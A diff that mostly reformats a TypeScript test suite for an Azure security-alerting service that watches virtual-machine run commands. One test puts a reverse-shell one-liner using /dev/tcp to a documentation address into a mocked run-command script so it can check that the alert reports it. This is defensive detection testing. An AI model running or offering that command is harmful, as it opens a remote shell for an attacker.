@@ -1,7 +1,16 @@
 import { setTimeout as sleep } from 'node:timers/promises'
 import type { FunctionsHost, InvocationResult } from '../../emulators/functions-host'
 import type { Mail } from '../../emulators/mailbox'
-import { activityLogRecord, message, processEvent, signInRecord, stages, uuid, vmId, type RecordOptions } from '../../support/azure-events'
+import {
+  activityLogRecord,
+  message,
+  processEvent,
+  signInRecord,
+  stages,
+  uuid,
+  vmId,
+  type RecordOptions,
+} from '../../support/azure-events'
 import { ENDPOINT_HUB, startAzureWorld, type AzureWorld } from '../../support/azure-world'
 
 const RUN_COMMAND = 'Microsoft.Compute/virtualMachines/runCommands/write'
@@ -32,9 +41,14 @@ const readable = (options: ReturnType<typeof somebody>, script = SCRIPT) => {
   return { ...options, operation: RUN_COMMAND, resourceId }
 }
 
-const take = async (messages: readonly unknown[], retryCount = 0, host: FunctionsHost = world.app): Promise<InvocationResult> => host.invokeEventHub('activityLog', messages, { retryCount, maxRetryCount: 5 })
+const take = async (
+  messages: readonly unknown[],
+  retryCount = 0,
+  host: FunctionsHost = world.app,
+): Promise<InvocationResult> => host.invokeEventHub('activityLog', messages, { retryCount, maxRetryCount: 5 })
 
-const taken = async (...messages: readonly unknown[]): Promise<void> => expect(await take(messages)).toMatchObject({ ok: true })
+const taken = async (...messages: readonly unknown[]): Promise<void> =>
+  expect(await take(messages)).toMatchObject({ ok: true })
 
 /** Mails that have come, of which there must be this many. */
 const mails = async (count: number): Promise<readonly Mail[]> => {
@@ -47,12 +61,33 @@ const idIn = ({ body }: Mail): string => /^Alert ([0-9a-f]{32})$/m.exec(body)?.[
 
 describe('the functions', () => {
   it('are registered as the host will see them', () => {
-    const seen = world.app.functions().map(({ name, bindings, retryOptions }) => ({ name, trigger: Object.values(bindings)[0], retryOptions }))
-    const retryOptions = { maxRetryCount: 5, retryStrategy: 'exponentialBackoff', minimumInterval: { seconds: 5 }, maximumInterval: { minutes: 1 } }
-    const trigger = { type: 'eventHubTrigger', direction: 'in', connection: 'EventHubConnection', consumerGroup: 'runwarden', cardinality: 'many' }
+    const seen = world.app
+      .functions()
+      .map(({ name, bindings, retryOptions }) => ({ name, trigger: Object.values(bindings)[0], retryOptions }))
+    const retryOptions = {
+      maxRetryCount: 5,
+      retryStrategy: 'exponentialBackoff',
+      minimumInterval: { seconds: 5 },
+      maximumInterval: { minutes: 1 },
+    }
+    const trigger = {
+      type: 'eventHubTrigger',
+      direction: 'in',
+      connection: 'EventHubConnection',
+      consumerGroup: 'runwarden',
+      cardinality: 'many',
+    }
     expect(seen).toMatchObject([
-      { name: 'activityLog', trigger: { ...trigger, eventHubName: '%ACTIVITY_HUB_NAME%' }, retryOptions: { maxRetryCount: retryOptions.maxRetryCount, retryStrategy: retryOptions.retryStrategy } },
-      { name: 'endpoint', trigger: { ...trigger, eventHubName: '%ENDPOINT_HUB_NAME%' }, retryOptions: { maxRetryCount: 5 } },
+      {
+        name: 'activityLog',
+        trigger: { ...trigger, eventHubName: '%ACTIVITY_HUB_NAME%' },
+        retryOptions: { maxRetryCount: retryOptions.maxRetryCount, retryStrategy: retryOptions.retryStrategy },
+      },
+      {
+        name: 'endpoint',
+        trigger: { ...trigger, eventHubName: '%ENDPOINT_HUB_NAME%' },
+        retryOptions: { maxRetryCount: 5 },
+      },
       { name: 'heartbeat', trigger: { type: 'timerTrigger', schedule: '0 */5 * * * *' } },
     ])
   })
@@ -60,14 +95,25 @@ describe('the functions', () => {
 
 describe('a story', () => {
   it('goes in at the hub and comes out as this mail', async () => {
-    const who = { ...somebody(), person: 11, user: 'alice@example.com', correlationId: uuid(0xa1), resourceId: vmId('vm-web-01') }
+    const who = {
+      ...somebody(),
+      person: 11,
+      user: 'alice@example.com',
+      correlationId: uuid(0xa1),
+      resourceId: vmId('vm-web-01'),
+    }
     const trigger = await world.trigger()
     await world.produce([message(signInRecord(), ...stages(readable(who)))])
     const [mail] = await mails(1)
     await trigger.stop()
     expect(`Subject: ${mail?.subject ?? ''}\n\n${mail?.body ?? ''}`).toMatchSnapshot()
     expect(mail?.attributes).toMatchObject({ severity: 'high', cloud: 'azure', kind: 'alert', account: uuid(1) })
-    expect(await world.blobs('alerts')).toMatchObject([{ name: `${idIn(mail!)}/alert-2026-03-02T100000.123Z.json`, content: { schema: 'runwarden.alert/1', id: idIn(mail!), severity: 'high' } }])
+    expect(await world.blobs('alerts')).toMatchObject([
+      {
+        name: `${idIn(mail!)}/alert-2026-03-02T100000.123Z.json`,
+        content: { schema: 'runwarden.alert/1', id: idIn(mail!), severity: 'high' },
+      },
+    ])
     expect(world.sts.calls).toMatchObject([{ operation: 'sts:AssumeRoleWithWebIdentity' }])
   })
 
@@ -75,8 +121,18 @@ describe('a story', () => {
     await taken(message(signInRecord(), activityLogRecord(somebody())))
     await mails(1)
     const lines = world.app.logs().map(({ message: text }) => JSON.parse(text) as Record<string, unknown>)
-    expect(lines.findLast(({ event }) => event === 'Run')).toMatchObject({ function: 'activityLog', attempt: 0, RecordsReceived: 2, RecordsIgnored: 1, ActivitiesEvaluated: 1, AlertsSent: 1 })
-    expect(lines.findLast(({ event }) => event === 'AlertSent')).toMatchObject({ severity: 'medium', title: expect.stringContaining('[MEDIUM]') as string })
+    expect(lines.findLast(({ event }) => event === 'Run')).toMatchObject({
+      function: 'activityLog',
+      attempt: 0,
+      RecordsReceived: 2,
+      RecordsIgnored: 1,
+      ActivitiesEvaluated: 1,
+      AlertsSent: 1,
+    })
+    expect(lines.findLast(({ event }) => event === 'AlertSent')).toMatchObject({
+      severity: 'medium',
+      title: expect.stringContaining('[MEDIUM]') as string,
+    })
   })
 
   it('is told to the AWS half', async () => {
@@ -84,7 +140,15 @@ describe('a story', () => {
     const who = somebody()
     await taken(message(activityLogRecord(who)))
     const [digest] = await world.digests.read({ atLeast: 1 })
-    expect(JSON.parse(digest?.body ?? '')).toEqual({ schema: 'runwarden.digest/1', id: expect.any(String) as string, at: Date.UTC(2026, 2, 2, 10, 0, 0, 123), human: who.user, address: '192.0.2.10', asn: null, family: 'command' })
+    expect(JSON.parse(digest?.body ?? '')).toEqual({
+      schema: 'runwarden.digest/1',
+      id: expect.any(String) as string,
+      at: Date.UTC(2026, 2, 2, 10, 0, 0, 123),
+      human: who.user,
+      address: '192.0.2.10',
+      asn: null,
+      family: 'command',
+    })
     await mails(1)
   })
 
@@ -121,9 +185,13 @@ describe('three stages of one operation', () => {
 
   it('on different partitions, read by two instances, are one alert', async () => {
     const records = stages(somebody())
-    const triggers = await Promise.all([world.trigger(world.app, 'activityLog', ['0', '1']), world.trigger(await world.another(), 'activityLog', ['2', '3'])])
+    const triggers = await Promise.all([
+      world.trigger(world.app, 'activityLog', ['0', '1']),
+      world.trigger(await world.another(), 'activityLog', ['2', '3']),
+    ])
     const passed = (): number => triggers.reduce((sum, trigger) => sum + trigger.passed(), 0)
-    for (const [index, record] of [...records, ...records].entries()) await world.produce([message(record)], { partitionKey: `key-${index}` })
+    for (const [index, record] of [...records, ...records].entries())
+      await world.produce([message(record)], { partitionKey: `key-${index}` })
     while (passed() < 6) await sleep(20)
     const found = await world.alerts.read({ atLeast: 1 })
     await Promise.all(triggers.map((trigger) => trigger.stop()))
@@ -134,7 +202,9 @@ describe('three stages of one operation', () => {
     const who = readable(somebody())
     await taken(message(...stages(who)))
     const [first] = await mails(1)
-    world.arm.resources.set(who.resourceId.toLowerCase(), { properties: { source: { script: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' } } })
+    world.arm.resources.set(who.resourceId.toLowerCase(), {
+      properties: { source: { script: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' } },
+    })
     await taken(message(activityLogRecord({ ...who, time: '2026-03-02T10:30:00.0000000Z' })))
     const [second] = await mails(1)
     expect(second?.body).toContain('/dev/tcp/')
@@ -150,7 +220,14 @@ describe('poison', () => {
     await mails(1)
     const found = (await world.blobs('quarantine')).slice(before)
     expect(found).toHaveLength(5)
-    expect(found.map(({ content }) => content)).toContainEqual(expect.objectContaining({ schema: 'runwarden.quarantined/1', format: 'event-hub', body: withoutTime, reason: expect.stringContaining('time of') as string }))
+    expect(found.map(({ content }) => content)).toContainEqual(
+      expect.objectContaining({
+        schema: 'runwarden.quarantined/1',
+        format: 'event-hub',
+        body: withoutTime,
+        reason: expect.stringContaining('time of') as string,
+      }),
+    )
     for (const { name } of found) expect(name).toMatch(/^\d{4}\/\d\d\/\d\d\/[0-9a-f]{32}\.json$/)
   })
 
@@ -169,7 +246,8 @@ describe('two instances with the same batch', () => {
     const batch = [message(...Array.from({ length: 5 }, () => activityLogRecord(somebody())))]
     const results = await Promise.all([take(batch), take(batch, 0, other)])
     // The one that finds a claim held for too long comes again.
-    for (const [index, result] of results.entries()) if (!result.ok) expect(await take(batch, 1, index === 0 ? world.app : other)).toMatchObject({ ok: true })
+    for (const [index, result] of results.entries())
+      if (!result.ok) expect(await take(batch, 1, index === 0 ? world.app : other)).toMatchObject({ ok: true })
     // Both own the claim, because they judge the same activities: either may be the redelivery of one that died.
     const found = await world.alerts.read({ atLeast: 5 })
     expect(new Set(found.map(idIn)).size).toBe(5)
@@ -185,7 +263,9 @@ describe('two instances with the same batch', () => {
     await dying
     const before = persons - 8
     expect(await take(batch)).toMatchObject({ ok: true })
-    const told = (await world.blobs('alerts')).map(({ content }) => (content as { actor: { display: string } }).actor.display)
+    const told = (await world.blobs('alerts')).map(
+      ({ content }) => (content as { actor: { display: string } }).actor.display,
+    )
     for (let person = before + 1; person <= persons; person++) expect(told).toContain(`user${person}@example.com`)
   })
 })
